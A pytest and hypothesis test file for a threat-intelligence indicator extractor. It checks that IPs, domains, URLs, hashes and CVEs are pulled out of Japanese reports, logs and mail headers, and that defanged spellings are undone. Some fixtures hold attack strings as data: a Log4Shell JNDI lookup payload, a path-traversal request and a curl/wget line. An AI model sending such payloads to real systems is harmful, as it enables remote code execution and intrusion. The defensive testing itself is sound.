"""Indicators in pasted text: what is found, what is left alone, and where it stood."""

from __future__ import annotations

import os
from ipaddress import IPv4Address, IPv6Address
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bench.extraction_score import score
from bench.extraction_sets import labelled_sets
from exchange.extraction import ALL_KINDS, Found, defang, extract, places

ROOT = Path(__file__).resolve().parent.parent
CORPUS = Path(os.environ.get("NOROSHI_TESTDATA") or ROOT.parent / "shared" / "testdata")
CASES = CORPUS / "text" / "ioc-cases.json"
needs_corpus = pytest.mark.skipif(
    not CASES.is_file(), reason="no corpus: set NOROSHI_TESTDATA or place it at ../shared/testdata"
)
RECALL, PRECISION = 0.98, 0.98
MD5 = "098f6bcd4621d373cade4e832627b4f6"
SHA1 = "a94a8fe5ccb19ba61c4c0873d391e987982fbbd3"
SHA256 = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
SHA512 = MD5 + SHA1 + MD5[::-1] + MD5[8:]


def all_of(text: str) -> list[Found]:
    return extract(text, documentation_is_real=True, kinds=ALL_KINDS)


def found(text: str) -> list[str]:
    return [one.value for one in extract(text, documentation_is_real=True)]


@needs_corpus
def test_labelled_texts_are_found_and_their_traps_are_not():
    for one in labelled_sets(CORPUS.parent):
        got = score(one, [[(f.type, f.value) for f in all_of(labelled.text)] for labelled in one.texts])
        assert got.found > 0, one.name
        assert got.recall >= RECALL, (one.name, got.missed)
        assert got.precision >= PRECISION, (one.name, got.wrong)


@pytest.mark.parametrize(
    ("text", "values"),
    [
        ("攻撃元は203.0.113.45及び203.0.113.46から", ["203.0.113.45", "203.0.113.46"]),
        ("接続先はbad.example.です。", ["bad.example"]),
        ("「bad。evil-x。com」です。次はevil-y.com。203.0.113.5も。", ["bad.evil-x.com", "evil-y.com", "203.0.113.5"]),
        ("１９８。５１。１００。３から", ["198.51.100.3"]),
        ("userアットevil-x.com、evil-y ドット com", ["user@evil-x.com", "evil-y.com"]),
        (
            "https://evil-x.com/a（確認済み）、https://evil-y.com:8443をブロック",
            ["https://evil-x.com/a", "https://evil-y.com:8443"],
        ),
        ("https://日本語.jp/p と「例え.jp」", ["https://xn--wgv71a119e.jp/p", "xn--r8jz45g.jp"]),
        ("①198.51.100.1②198.51.100.2", ["198.51.100.1", "198.51.100.2"]),
        ("ＣＶＥー２０２１ー４４２２８とcve-2024-3400.", ["CVE-2021-44228", "CVE-2024-3400"]),
        ("サーバ（203.0.113.5）、evil-x.com（198.51.100.3）", ["203.0.113.5", "evil-x.com", "198.51.100.3"]),
    ],
)
def test_japanese_text_neither_hides_nor_joins_an_indicator(text, values):
    assert found(text) == values


@pytest.mark.parametrize(
    ("text", "values"),
    [
        (
            "h**p://evil-x.com/A hXXps[://]EVIL-Y.com/A ttp://evil-z.com",
            ["http://evil-x.com/A", "https://evil-y.com/A", "http://evil-z.com"],
        ),
        (
            "[https]://evil-x[.]com/a http[s]://evil-y.com meow[:]//evil-z.com",
            ["https://evil-x.com/a", "https://evil-y.com", "http://evil-z.com"],
        ),
        (r"evil[.com evil-b.]com evil-c\.com evil-d{dot}com", ["evil.com", "evil-b.com", "evil-c.com", "evil-d.com"]),
        ("evil-1 dot com, the dot com boom", ["evil-1.com"]),
        ("203[.]0[.]113[.]6[:]8080 2001[:]db8[:][:]1", ["203.0.113.6", "2001:db8::1"]),
        ("ev\u200bil-x.com", ["evil-x.com"]),
        ("IPv6:2001:DB8:0:0::1 fe80::1%eth0 64:ff9b::1", ["2001:db8::1", "fe80::1", "64:ff9b::1"]),
        ("203.0.113.0/24 203.0.113.7/32 2001:db8::/32 2001:db8::7/128", ["203.0.113.7", "2001:db8::7"]),
        (
            '"http://c.com/q?x=1",198.51.100.7,http://d.com/e,http://f.com',
            ["http://c.com/q?x=1", "198.51.100.7", "http://d.com/e", "http://f.com"],
        ),
        (
            "http://a.com/x_(y) [t](http://b.com/z) ${jndi:ldap://203.0.113.5:1389/a}",
            ["http://a.com/x_(y)", "http://b.com/z", "ldap://203.0.113.5:1389/a"],
        ),
        ("*.evil-x.com @evil-y.com mailto:foo@EVIL.com", ["evil-x.com", "evil-y.com", "foo@evil.com"]),
        (r"\\203.0.113.9\c$", ["203.0.113.9"]),
        ("198.51.100.7～198.51.100.9", ["198.51.100.7", "198.51.100.9"]),
        ("evil[.]sh www.evil.py evil.zip/payload ドメイン bad.md", ["evil.sh", "www.evil.py", "evil.zip", "bad.md"]),
        ("аpple.com", ["xn--pple-43d.com"]),
    ],
)
def test_defanged_and_odd_spellings_are_understood(text, values):
    assert found(text) == values


@pytest.mark.parametrize(
    "text",
    [
        "4.8.1 v1.2.3.4 version 10.2.3.4 Chrome/96.0.4664.45 1.3.6.1.4.1",
        "バージョン 1.2.3.4、1.2.3.5 及び 1.2.3.6 に更新",
        "2026.11.04 03.1234.5678 090-1234-5678 10:20:30 d2:fb:49:24:37:18",
        "Node.js com.google.android.gms System.IO os.name user.id() e.g. i.e.",
        r"C:\Users\evil.com /etc/evil.sh ~/x.py ./downloads/a/b.sh GET /a/b.php?l=c1.cab",
        "http://intranet/ http://evil.nottld/x 255.255.255.0 0.0.0.0",
        "00000000000000000000000000000000 550e8400-e29b-41d4-a716-446655440000",
        "続きは次の.comドメインで",
    ],
)
def test_what_only_looks_like_an_indicator_is_left_alone(text):
    assert found(text) == []


@pytest.mark.parametrize(
    ("text", "values"),
    [
        (
            "通信先：２０３．０．１１３．４５（ポート４４３）及び evil-a[.]jp\n　・【重要】請求書.zip",
            ["203.0.113.45", "evil-a.jp"],
        ),
        (
            "203.0.113.45及び203.0.113.46、並びに198.51.100.7～198.51.100.9と2001:db8::1〜2001:db8::5",
            ["203.0.113.45", "203.0.113.46", "198.51.100.7", "198.51.100.9", "2001:db8::1", "2001:db8::5"],
        ),
        ("「ｈｘｘｐｓ：／／ｅｖｉｌ－ｂ．ｃｏｍ／ｌｏｇｉｎ」を遮断", ["https://evil-b.com/login"]),
        ("info＠evil-c．jp（返信先：info（アット）evil-d（ドット）jp）", ["info@evil-c.jp", "info@evil-d.jp"]),
        ("evil-e 【.】 com、evil-f〔.〕net、evil-g［ドット］org", ["evil-e.com", "evil-f.net", "evil-g.org"]),
        (
            "hxxps[:]//evil-h[.]com/a。次に hxxp://evil-i[.]com/b、に接続",
            ["https://evil-h.com/a", "http://evil-i.com/b"],
        ),
        (
            "https://evil-j.com/path/、https://evil-k.com/path2/」と「https://evil-l.com」",
            ["https://evil-j.com/path/", "https://evil-k.com/path2/", "https://evil-l.com"],
        ),
        ("ver4.8.1、バージョン：10.1.2.3以前、2026.11.04、03.1234.5678、〒100-0001", []),
        ("令和８年１１月４日２２：０５頃、端末３台が停止。11/4 22:05に復旧。R8.11.4。", []),
        (
            "ＣＶＥ－２０２４－３４００、cve 2023-46805およびCVE‐2024‐21887、ＣＶＥ—2024—1709",
            ["CVE-2024-3400", "CVE-2023-46805", "CVE-2024-21887", "CVE-2024-1709"],
        ),
        (f"検体：sample.exe（SHA256：{SHA256.upper()}）は悪性です", [SHA256]),
        ("１．evil-m.com\n２．evil-n．com\n・evil-o[．]com", ["evil-m.com", "evil-n.com", "evil-o.com"]),
        ("IPアドレス203.0.113.5からドメインevil-p.comへ", ["203.0.113.5", "evil-p.com"]),
    ],
)
def test_mails_of_a_japanese_desk_are_read(text, values):
    assert found(text) == values


@pytest.mark.parametrize(
    ("text", "values"),
    [
        (
            "CEF:0|Vendor|IDS|4.2.1.9|100|C2|9|src=10.1.2.3 dst=203.0.113.50 request=http://evil-m.com/g.php?id\\=1",
            ["10.1.2.3", "203.0.113.50", "http://evil-m.com/g.php?id=1"],
        ),
        (
            "%ASA-6-302013: Built outbound TCP for outside:203.0.113.51/443 to inside/192.168.1.5(51515)",
            ["203.0.113.51", "192.168.1.5"],
        ),
        ("TCP_MISS/200 CONNECT evil-n.com:443 - HIER_DIRECT/203.0.113.53 -", ["evil-n.com", "203.0.113.53"]),
        (
            '198.51.100.9 - - [04/Nov/2026:05:12:33 +0900] "GET /i.php?f=..%2fetc HTTP/1.1" 200 5 "http://evil-o.com/r"'
            ' "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/120.0.0.1 Safari/537.36"',
            ["198.51.100.9", "http://evil-o.com/r"],
        ),
        (
            "Received: from mail.evil-p.com ([203.0.113.54])\n by mx1.kaku.co.jp\nMessage-ID: <1@evil-q.com>",
            ["mail.evil-p.com", "203.0.113.54", "mx1.kaku.co.jp"],
        ),
        ("2026-11-04,203.0.113.55,http://evil-q.com/a.php,GET,200", ["203.0.113.55", "http://evil-q.com/a.php"]),
        ('{"url":"http:\\/\\/evil-r.com\\/x","ip":"203.0.113.56"}', ["http://evil-r.com/x", "203.0.113.56"]),
        (f"| IP | 名前 |\n|---|---|\n| 203.0.113.57 | evil-t[.]com | {MD5} |", ["203.0.113.57", "evil-t.com", MD5]),
        (
            "Content-Transfer-Encoding: quoted-printable\n\nhttp://evil-u.com/login?id=3D12&token=3Dab=\ncd now",
            ["http://evil-u.com/login?id=12&token=abcd"],
        ),
        (
            "[x](https://evil-v.com/l) **http://evil-w.com/x** `evil-x.com` <https://evil-y.com/z|here> "
            "https://evil-z.com/p/[a post]",
            [
                "https://evil-v.com/l",
                "http://evil-w.com/x",
                "evil-x.com",
                "https://evil-y.com/z",
                "https://evil-z.com/p/",
            ],
        ),
        ('<a href="http://evil-z.com/?a=1&amp;b=2">x</a>', ["http://evil-z.com/?a=1&b=2"]),
        ("bounces+1=a=b.com@evil-z.com git@evil-y.com:a/b.git", ["bounces+1=a=b.com@evil-z.com", "evil-y.com"]),
        ("dig evil-a.com @203.0.113.11; ssh root@203.0.113.12", ["evil-a.com", "203.0.113.11", "203.0.113.12"]),
    ],
)
def test_logs_headers_tables_and_markup_are_read(text, values):
    assert found(text) == values


@pytest.mark.parametrize(
    ("text", "values"),
    [
        (
            "hxxps[:]//ev-a[.]com hXXp://ev-b(.)com ev-c{.}com ev-e[dot]com ev-f (dot) com ev-g<.>com ev-h[.]co[.]jp",
            ["https://ev-a.com", "http://ev-b.com", "ev-c.com", "ev-e.com", "ev-f.com", "ev-g.com", "ev-h.co.jp"],
        ),
        (
            "meow://ev-i[.]com/a hxxp:\\\\ev-k.com\\a\\b h**ps://ev-l.com fxp://ev-m.com",
            ["http://ev-i.com/a", "http://ev-k.com/a/b", "https://ev-l.com", "ftp://ev-m.com"],
        ),
        ("203 . 0 . 113 . 58 and www . ev-o . net; the end . Next", ["203.0.113.58", "www.ev-o.net"]),
        (
            "203[.]0.113[.]59, 203.0.113.[.]61, 203\\.0\\.113\\.62",
            ["203.0.113.59", "203.0.113.61", "203.0.113.62"],
        ),
        (
            "2001[:]db8[:]0[:]0[:]0[:]0[:]0[:]1, 2001:db8[::]2, [2001:db8::3]:443",
            ["2001:db8::1", "2001:db8::2", "2001:db8::3"],
        ),
        (
            "boss[@]ev-p[.]com boss(at)ev-q.com boss [at] ev-r [dot] com boss AT ev-s DOT com",
            ["boss@ev-p.com", "boss@ev-q.com", "boss@ev-r.com", "boss@ev-s.com"],
        ),
        ("evil dot com, www dot ev-t dot net, the dot com boom, a dot com company", ["evil.com", "www.ev-t.net"]),
    ],
)
def test_every_way_to_defang_is_undone(text, values):
    assert found(text) == values


@pytest.mark.parametrize(
    "text",
    [
        "v4.8.1, 2026.11.04, 11.04.2026, 4.8, 1.2.3.4.5, FileVersion=6.1.7.1, build 10.0.1.2, stack before 4.7.1.27",
        "nginx/1.2.3.4 WebLogic 12.2.1.4 .1.3.6.1 4.0.0.0 999.1.1.1 256.1.1.1",
        "svchost.exe readme.txt foo.py invoice.zip index.html libfoo.so main.rs run.sh Makefile.am lib.pl main.py:42:",
        "com.example.app org.apache.logging.log4j.core.lookup.JndiLookup java.net.URL asyncio.run(main())",
        "e.g. this, i.e. that, U.S. firms, a.m. and p.m., Ph.D., No.1, Inc., vs. ASP.NET, System.IO, Vue.js",
        r"C:\Windows\evil.com.exe \\fileserver01\share\a.zip HKLM\Software\a.b.com\Run /usr/bin/evil.sh ./evil.py",
        "Trojan.Win32.Emotet.ac, Win32/Sality.in, W97M.Downloader.to, Backdoor:MSIL/Agent.la",
        "host.name user.id document.location window.open('x') this.props.name {user.link}",
        "00:1A:2B:3C:4D:5E 12:34:56.789 2026-11-04T05:12:33+09:00 a::b",
        f"session {MD5}, commit {SHA1}, imphash: {MD5}, Administrator:500:{MD5}:{MD5[::-1]}:::",
        "12345678901234567890123456789012 " + "1" * 40,
        "CVE-19999-0000 CVE-2022-000012 CVE-XXXX-1234",
        "see https://www.oasis-\nopen.org/resources",
        "PostgreSQL 14.5.1.2, SonicWall 7.0.1.5, Ivanti Connect Secure 22.3.1.4, Citrix 13.1.49.15, FortiGate 7.2.5.1",
        "curl/8.4.0.1 MariaDB 10.11.6.2 vCenter 7.0.3.1 Citrix ADC 13.1.49.15 FortiManager 7.4.1.2",
        "WebLogic 12.2.1.3.0 / 14.1.1.0 and 14.1.2.0",
        "図3.2.1.1、表1.2.3.4、別紙1.1.1.1、付録 2.1.1.4、別表10.1.2.3",
    ],
)
def test_versions_files_code_and_numbers_are_no_indicators(text):
    assert found(text) == []


@pytest.mark.parametrize(
    ("text", "values"),
    [
        ("FortiGate 203.0.113.5, SonicWall SMA 198.51.100.7", ["203.0.113.5", "198.51.100.7"]),
        ("curl 45.9.148.3 && wget 5.188.86.172", ["45.9.148.3", "5.188.86.172"]),
        ("vCenter 203.0.113.5 Exchange 192.0.2.9 Edge 185.220.101.4", ["203.0.113.5", "192.0.2.9", "185.220.101.4"]),
        ("別紙 203.0.113.45、表 198.51.100.7、代表 5.188.86.172", ["203.0.113.45", "198.51.100.7", "5.188.86.172"]),
        ("FortiGate 7[.]2[.]5[.]1 FortiGate 7.2.5.1:443", ["7.2.5.1"]),
        ("1.3.6.1.4.1, 203.0.113.5", ["203.0.113.5"]),
    ],
)
def test_the_name_of_what_has_addresses_too_leaves_an_address_alone(text, values):
    assert found(text) == values


@pytest.mark.parametrize(
    ("text", "values"),
    [
        (f"SHA256: {SHA256[:40]}\n{SHA256[40:]}", [SHA256]),
        (f"SHA-256\n{SHA256[:32]}\n{SHA256[32:]}", [SHA256]),
        (f"| {SHA256[:50]} |\n| {SHA256[50:]} |", [SHA256]),
        (f"> {SHA256[:60]}\r\n> {SHA256[60:]}\r\n", [SHA256]),
        (f"SHA256: {SHA256[:6]}\n{SHA256[6:]}", [SHA256]),
        (f"{SHA256[:30]}-\n{SHA256[30:]}", [SHA256]),
        (f"{SHA256[:20]}\n{SHA256[20:40]}\n{SHA256[40:60]}\n{SHA256[60:]}", [SHA256]),
        ("SHA512:\n" + "\n".join(SHA512[at : at + 32] for at in range(0, 128, 32)), [SHA512]),
        (f"検体のSHA256は\n{SHA256[:33]}\n{SHA256[33:]}です", [SHA256]),
        (f"{MD5}\n{MD5[::-1]}\n{SHA1}\n{SHA256}", [MD5, MD5[::-1], SHA1, SHA256]),
        (f"{MD5}\n12345678\n", [MD5]),
        (f"md5={MD5};sha1={SHA1};sha256={SHA256}", [MD5, SHA1, SHA256]),
        (f"{SHA256}.exe と {SHA1}_{MD5}", [SHA256]),
        (f"SHA256: {SHA256[:32]} {SHA256[32:]}", [SHA256]),
        (f"SHA-1： {SHA1[:20]}    {SHA1[20:]}\n{MD5}", [SHA1, MD5]),
        (f"SHA256: {SHA256[:16]} {SHA256[16:32]}\n  {SHA256[32:48]} {SHA256[48:]}", [SHA256]),
        ("SHA512: " + " ".join(SHA512[at : at + 16] for at in range(0, 128, 16)), [SHA512]),
        (f"{MD5} {MD5[::-1]}", [MD5, MD5[::-1]]),
        (f"MD5: {MD5} {MD5[::-1]}", [MD5, MD5[::-1]]),
        (f"SHA256: {MD5} {MD5[::-1]}     {SHA1}", [MD5 + MD5[::-1], SHA1]),
        (f"SHA256: {MD5} {SHA1}", [MD5, SHA1]),
        (f"SHA256: {SHA256[:32]}     {SHA256[32:]}", [SHA256[:32], SHA256[32:]]),
    ],
)
def test_a_hash_over_several_lines_is_one_and_a_list_of_hashes_is_a_list(text, values):
    assert found(text) == values


@pytest.mark.parametrize(
    ("text", "values"),
    [
        (
            "http://user:pass@ev-u.com:8080/x mailto:user@ev-v.com",
            ["http://user:pass@ev-u.com:8080/x", "user@ev-v.com"],
        ),
        (
            "EVIL-UPPER.COM Evil-Title.com HTTP://EV-X.COM/Path",
            ["evil-upper.com", "evil-title.com", "http://ev-x.com/Path"],
        ),
        (
            "_dmarc.ev-ah.com a_b.ev-ai.com a_b.com xn--wgv71a119e.jp",
            ["_dmarc.ev-ah.com", "a_b.ev-ai.com", "xn--wgv71a119e.jp"],
        ),
        (
            "mail.evil.pl evil-ap.co.rs microsoft.com evil.com(悪性)",
            ["mail.evil.pl", "evil-ap.co.rs", "microsoft.com", "evil.com"],
        ),
        (
            "//cdn.ev-ag.com/x.js postgresql+psycopg2://ev-ah.com/x",
            ["cdn.ev-ag.com", "postgresql+psycopg2://ev-ah.com/x"],
        ),
        ("http://a.com/x,b.html http://a.com/,evil.com,x", ["http://a.com/x,b.html", "http://a.com/", "evil.com"]),
        ("https://a.com/?q[]=1&b[0]=2 http://a.com/x(y", ["https://a.com/?q[]=1&b[0]=2", "http://a.com/x"]),
    ],
)
def test_hosts_and_urls_end_where_they_end(text, values):
    assert found(text) == values


@pytest.mark.parametrize(
    ("kind", "text", "value"),
    [
        ("attack-pattern", "手法はT1021.001です", "T1021.001"),
        ("x-mitre-tactic", "TA0011 (C2)", "TA0011"),
        ("autonomous-system", "ASN 64501", "AS64501"),
        ("ipv4-cidr", "203.0.113[.]0/24を遮断", "203.0.113.0/24"),
        ("ipv6-cidr", "2001:db8::/32", "2001:db8::/32"),
        ("mac-addr", "MAC 00-1A-2B-3C-4D-5E", "00:1a:2b:3c:4d:5e"),
        (
            "windows-registry-key",
            "「HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Run」に登録",
            "HKEY_LOCAL_MACHINE\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Run",
        ),
        ("windows-registry-key", "HKCU\\Software\\Run key was added", "HKEY_CURRENT_USER\\Software\\Run"),
        ("file-name", "脅迫文 README_X.txt、", "README_X.txt"),
        ("file-name", "添付「請求 書.zip」を", "請求 書.zip"),
        ("user-agent", 'UAは"python-requests/2.31.0"', "python-requests/2.31.0"),
        ("user-agent", "Mozilla/5.0 (compatible; X/1.3) と", "Mozilla/5.0 (compatible; X/1.3)"),
        ("cryptocurrency-wallet", "送金先 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa", "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa"),
        (
            "cryptocurrency-wallet",
            "bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4",
            "bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4",
        ),
    ],
)
def test_what_else_describes_an_attack_is_told_only_when_asked_for(kind, text, value):
    assert [(one.type, one.value) for one in all_of(text)] == [(kind, value)]
    assert extract(text, documentation_is_real=True) == []


def test_a_wallet_with_a_wrong_digit_is_none():
    assert all_of("1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNb bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t5") == []


def test_every_place_of_an_indicator_is_told():
    text = "203.0.113.9、203[.]0[.]113[.]9、２０３．０．１１３．９"
    stood = [text[one.start : one.end] for one in places(text)]
    assert stood == ["203.0.113.9", "203[.]0[.]113[.]9", "２０３．０．１１３．９"]


def test_documentation_names_count_only_where_they_are_real():
    text = "bad.example http://bad.example/x a@bad.example 203.0.113.5"
    assert [one.value for one in extract(text)] == ["203.0.113.5"]
    assert len(extract(text, documentation_is_real=True)) == 4


def test_each_is_told_once_and_where_it_first_stood():
    text = "前置き：２０３．０．１１３．９、203[.]0[.]113[.]9"
    assert extract(text) == [Found("ipv4-addr", "203.0.113.9", 4, 15)]


def test_a_run_of_letters_without_end_is_passed_over():
    assert found("a" * 5000 + ".com http://evil-x.com/" + "b" * 5000 + " evil-y.com") == ["evil-y.com"]


labels = st.from_regex(r"[a-z0-9]([a-z0-9-]{0,10}[a-z0-9])?", fullmatch=True).filter(lambda name: name[2:4] != "--")
names = st.builds("{}.{}".format, labels, st.sampled_from(["example", "com", "co.jp", "evil.net", "sh"]))
ipv4s = st.integers(2**24, 2**32 - 2**25).map(lambda number: str(IPv4Address(number)))
ipv6s = st.integers(2**125, 2**126 - 1).map(lambda number: str(IPv6Address(number)))
hosts = names | ipv4s | ipv6s.map("[{}]".format)
paths = st.from_regex(r"(/[A-Za-z0-9_%~-]{1,8}){0,3}(\.php\?id=[0-9]{1,4})?", fullmatch=True)
ports = st.just("") | st.integers(1, 65535).map(":{}".format)
urls = st.builds(
    "{}://{}{}/{}".format,
    st.sampled_from(["http", "https", "ftp"]),
    hosts,
    ports,
    paths.map(lambda path: path.lstrip("/")),
)
hashes = (
    st.sampled_from([("md5", 32), ("sha1", 40), ("sha256", 64), ("sha512", 128)])
    .flatmap(lambda kind: st.tuples(st.just(kind[0]), st.text("0123456789abcdef", min_size=kind[1], max_size=kind[1])))
    .filter(lambda pair: len(set(pair[1])) > 3 and not pair[1].isdigit())
)
mailboxes = st.from_regex(r"[a-z0-9]{1,9}(\.[a-z]{1,9})?", fullmatch=True)
indicators = st.one_of(
    *(
        st.tuples(st.just(kind), values)
        for kind, values in [
            ("ipv4-addr", ipv4s),
            ("ipv6-addr", ipv6s),
            ("domain-name", names),
            ("url", urls),
            ("email-addr", st.builds("{}@{}".format, mailboxes, names)),
            ("vulnerability", st.integers(1000, 99999).map("CVE-2024-{}".format)),
        ]
    ),
    hashes,
)


@given(indicators)
def test_what_was_defanged_is_found_again(indicator):
    kind, value = indicator
    shown = defang(value, kind)
    assert extract(shown, documentation_is_real=True) == [Found(kind, value, 0, len(shown))]
    assert defang(shown, kind) == shown


@pytest.mark.parametrize(
    ("kind", "value", "shown"),
    [
        ("url", "https://bad.example/path.php?a=b.c", "hxxps://bad[.]example/path.php?a=b.c"),
        ("url", "http://u.v@bad.example:80/", "hxxp://u.v@bad[.]example:80/"),
        ("email-addr", "some.user@bad.example", "some.user[@]bad[.]example"),
        ("ipv4-addr", "198.51.100.3", "198[.]51[.]100[.]3"),
        ("ipv6-addr", "2001:db8::1", "2001[:]db8[:][:]1"),
        ("vulnerability", "CVE-2021-44228", "CVE-2021-44228"),
    ],
)
def test_the_form_for_display(kind, value, shown):
    assert defang(value, kind) == shown


@given(st.text() | st.text("http:/.[]()@。ドットa1f-_\\%&,; "))
def test_any_text_is_read_and_every_place_is_inside_it(text):
    starts = [one.start for one in extract(text, documentation_is_real=True)]
    assert starts == sorted(starts)
    assert all(0 <= one.start < one.end <= len(text) for one in extract(text))
